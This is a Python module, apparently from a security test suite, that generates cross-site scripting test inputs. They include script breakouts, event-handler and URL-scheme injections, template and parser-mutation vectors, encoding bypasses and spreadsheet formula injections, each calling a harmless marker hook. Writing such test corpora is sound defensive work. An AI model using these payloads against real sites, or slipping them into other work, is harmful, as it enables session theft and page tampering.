# SPDX-FileCopyrightText: 2026 The Sechseck authors
# SPDX-License-Identifier: EUPL-1.2
"""Texts that would run a script where a page forgets to escape them; all made by rule."""

from __future__ import annotations

from collections.abc import Iterator
from itertools import product

CALL = "window.__ran(1)"  # the hook that tells of every execution
EVENTS = (
    "onload",
    "onerror",
    "onfocus autofocus tabindex=1",
    "ontoggle",
    "onmouseover",
    "onclick",
)
TAGS = ("img src=x", "svg", "details open", "body", "input", "video src=x", "a href=x", "iframe")
BREAKS = (
    "",
    "'>",
    '">',
    "</title>",
    "</textarea>",
    "</script>",
    "--\x3e",
    "]]>",
    "</style>",
    "`>",
)
SCHEMES: tuple[str, ...] = (
    "javascript:",
    "JaVaScRiPt:",
    "java\tscript:",
    "java\nscript:",
    " javascript:",
    "\x01javascript:",
)
SCHEMES += (
    "vbscript:",
    "data:text/html,",
    "data:image/svg+xml,",
    "feed:javascript:",
    "//evil.example/",
)
TEMPLATES = (
    "{{ %s }}",
    "{%% %s %%}",
    "${%s}",
    "#{%s}",
    "<%%= %s %%>",
    "[[%s]]",
    "{{constructor.constructor('%s')()}}",
)


def payloads() -> list[str]:
    """Return all texts, each once; every one is shorter than the shortest field needs."""
    return list(dict.fromkeys(_all()))


def _all() -> Iterator[str]:
    yield from _scripts()
    yield from _handlers()
    yield from _addresses()
    yield from _templates()
    yield from _mutations()
    yield from _unicode()
    yield from _cells()


def _scripts() -> Iterator[str]:
    """Leave the place the text stands in, and begin a script."""
    for before in BREAKS:
        yield f"{before}<script>{CALL}</script>"
        yield f"{before}<ScRiPt >{CALL}</sCrIpT >"
        yield f"{before}<svg><script>{CALL}</script></svg>"
        yield f"{before}<script src=data:,{CALL}></script>"


def _handlers() -> Iterator[str]:
    """Bring an element that runs its handler, quoted in every way."""
    for tag, event in product(TAGS, EVENTS):
        name, _space, rest = event.partition(" ")
        yield f"<{tag} {name}={CALL} {rest}>"
    for quote in ('"', "'"):
        for event in EVENTS:
            name, _space, rest = event.partition(" ")
            yield f"{quote} {name}={quote}{CALL}{quote} {rest} x={quote}"


def _addresses() -> Iterator[str]:
    """Stand where an address stands, or make one of it."""
    for scheme in SCHEMES:
        yield f"{scheme}{CALL}"
        yield f"[Weg]({scheme}{CALL})"
        yield f"<a href='{scheme}{CALL}'>Weg</a>"
        yield f"![Bild]({scheme}{CALL})"


def _templates() -> Iterator[str]:
    """Be computed by a template or a script that looks for marks."""
    for template in TEMPLATES:
        yield template % CALL
        yield f"<p hx-on:load={CALL} hx-get=/ hx-trigger=load>{template % CALL}</p>"


def _mutations() -> Iterator[str]:
    """Change their meaning when a parser repairs them."""
    inner = f"<img src=x onerror={CALL}>"
    for wrapper in (
        "noscript",
        "template",
        "math",
        "svg",
        "style",
        "xmp",
        "noembed",
        "select",
        "table",
    ):
        yield f"<{wrapper}><p title='</{wrapper}>{inner}'>"
        yield f"<{wrapper}>{inner}</{wrapper}>"
    yield f"<math><mtext><table><mglyph><style><!--</style>{inner}"
    yield f"<svg></p><style><a id='</style>{inner}'>"
    yield f"<scr<script>ipt>{CALL}</scr</script>ipt>"
    yield f"<<script>{CALL}//<</script>"
    yield f"<img src=x onerror={CALL}//"
    yield f"&lt;script&gt;{CALL}&lt;/script&gt;"
    yield f"&#60;script&#62;{CALL}&#60;/script&#62;"


def _unicode() -> Iterator[str]:
    """Become dangerous once somebody normalises or decodes them."""
    script = f"<script>{CALL}</script>"
    yield script.replace("<", "\uff1c").replace(">", "\uff1e")
    yield script.replace("<", "\ufe64").replace(">", "\ufe65")
    yield script.replace("<", "\u02c2").replace(">", "\u02c3")
    yield script.replace("<", "%3C").replace(">", "%3E")
    yield script.replace("<", "\\u003c").replace(">", "\\u003e")
    yield script.replace("<", "\\x3c").replace(">", "\\x3e")
    yield script.replace("<", "+ADw-").replace(">", "+AD4-")
    yield script.replace("<script", "<\u017fcript")
    yield f"\u202e{script}\u2066"
    yield f"\u2028{CALL}\u2029"
    yield f"';{CALL};'"
    yield f'";{CALL};"'
    yield f"\\';{CALL};//"


def _cells() -> Iterator[str]:
    """Be a formula, for whoever downloads a table."""
    for sign in ("=", "+", "-", "@"):
        yield f'{sign}HYPERLINK("javascript:{CALL}")'
